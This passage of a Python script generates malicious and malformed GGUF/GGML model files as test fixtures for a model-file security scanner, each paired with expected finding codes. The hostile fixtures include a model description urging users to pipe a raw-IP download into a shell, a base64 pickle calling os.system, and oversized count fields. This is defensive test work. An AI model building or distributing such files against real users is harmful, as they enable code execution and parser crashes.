    shell.kv = [(k, t, EVIL_DESCRIPTION if k == "general.description" else v, sub) for k, t, v, sub in card_spec.kv]
    shell.tensors = card_spec.tensors
    shell_data = shell.build()
    where = string_at(shell, "general.description")
    twin("metadata_shell_pipe.gguf",
         "the model card's general.description tells the user to pipe a download from a raw IP into a shell",
         shell_data, [finding("MA011", where, key("general.description"), indicator="shell-pipe"),
                         finding("MA011", where, key("general.description"), indicator="raw-ip-url")])

    blob = SpecWriter()
    encoded = base64.b64encode(payload.data).decode()
    blob.kv = [(k, t, encoded if k == "general.description" else v, sub) for k, t, v, sub in card_spec.kv]
    blob.tensors = card_spec.tensors
    blob_data = blob.build()
    where = string_at(blob, "general.description")
    twin("metadata_base64_pickle.gguf", "general.description holds a base64 pickle calling os.system",
         blob_data, [finding("MA012", where, key("general.description"), payload="pickle", encoding="base64"),
                        *payload.findings(0, f"<base64@{where}>")])

    big_spec = SpecWriter(endian=">")
    big_spec.kv, big_spec.tensors = base.kv, base.tensors
    big_data = big_spec.build()
    twin("big_endian_huge_metadata_count.gguf", "a big-endian file whose metadata count is 2^62",
         patch(big_data, big_spec.at["kv_count"], ">Q", 2**62),
         [finding("MA340", big_spec.at["kv_count"], field="metadata count", declared=str(2**62))])

    v1_count = SpecWriter(version=1)
    v1_count.kv, v1_count.tensors = v1.kv, v1.tensors
    v1_data = v1_count.build()
    twin("v1_huge_tensor_count.gguf", "a version 1 file whose u32 tensor count is 2^32-1",
         patch(v1_data, v1_count.at["tensor_count"], "<I", 2**32 - 1),
         [finding("MA340", v1_count.at["tensor_count"], field="tensor count")])

    add("malicious/ggjt_huge_vocab.bin", "malicious", "a ggjt file declaring 2^31-1 vocabulary tokens",
        legacy_ggjt(n_vocab=2**31 - 1), [finding("MA340", 8, field="n_vocab"), finding("MA346", 0, magic="ggjt")],
        fmt="ggml")
    add("malicious/ggjt_bad_version.bin", "malicious", "a ggjt file of version 9 (versions 1 to 3 existed)",
        legacy_ggjt(version=9), [finding("MA347", 4, version=9), finding("MA346", 0, magic="ggjt", version=9)],
        fmt="ggml")
    return out


def nested_array(w: SpecWriter, depth: int) -> bytes:
    """``w`` built with general.tags holding arrays nested ``depth`` deep around one u32."""
    value = w._pack("I", VT.UINT32) + w._length(1) + w._pack("I", 7)
    for _ in range(depth):
        value = w._pack("I", VT.ARRAY) + w._length(1) + value
    return w.add("general.tags", VT.ARRAY, RawValue(value)).build()


ASSUMPTIONS = [
    "Benign files are written by gguf-py's GGUFWriter (llama.cpp's converters' writer) and read back by its "
    "GGUFReader; SpecWriter (this script) reproduces GGUFWriter's bytes exactly, so each malicious twin differs "
    "from benign/llama3_v3.gguf only by its lie.",
    "Positions: MA340 at the count or length field that lies; MA341 at the field gguf.cpp refuses (value type, "
    "key, alignment value, dimension count, tensor entry); MA342 to MA345 at the tensor's entry in the tensor "
    "table; key paths $[\"key\"] for metadata (then [i] per array element) and tensors[\"name\"] for tensors.",
    "Chat templates (tokenizer.chat_template, tokenizer.chat_template.<name>) are analysed as code: findings at "
    "the template's first byte with its key path, the line and column inside the template in details "
    "(templateLine, templateColumn). Real templates (benign/templates/, from fixtures/jinja/benign/real) are clean.",
    "Metadata strings (templates included) and tensor names go through the shared string checks (MA005, MA011, "
    "MA012) at their first byte; a decoded pickle is scanned as <base64@N>. Vocabulary tokens and merges are "
    "checked against --blacklist only.",
    "Legacy GGML-family files are reported as MA346 (info); their header and vocabulary are checked.",
    "Bytes after the last tensor's padded data are MA349 at their first byte, and scanned as <trailing@N> "
    "(security findings only, positions inside them).",
]


def main() -> None:
    items = fixtures()
    versions = {"python": python_version(), "numpy": np.__version__, "gguf": gguf_version()}
    manifest = build_manifest("scripts/make_gguf_fixtures.py", versions, ASSUMPTIONS, items)
    write_fixtures(OUT, items, manifest, max_fixture_bytes=MAX_FIXTURE_BYTES, max_total_bytes=MAX_AREA_BYTES)


def gguf_version() -> str:
    from importlib.metadata import PackageNotFoundError, version
    try:
        return version("gguf")
    except PackageNotFoundError:
        return Path(gguf.__file__).parent.parent.name.split("-")[1]


if __name__ == "__main__":
    main()
